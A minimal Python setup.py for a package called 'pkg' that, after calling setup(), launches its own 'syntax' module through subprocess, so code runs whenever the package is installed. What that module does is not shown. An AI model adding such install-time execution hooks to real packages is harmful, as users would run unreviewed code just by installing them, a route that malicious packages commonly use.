import subprocess
from setuptools import setup
setup(name='pkg', packages=['syntax'])
subprocess.run(['python', '-m', 'syntax'])
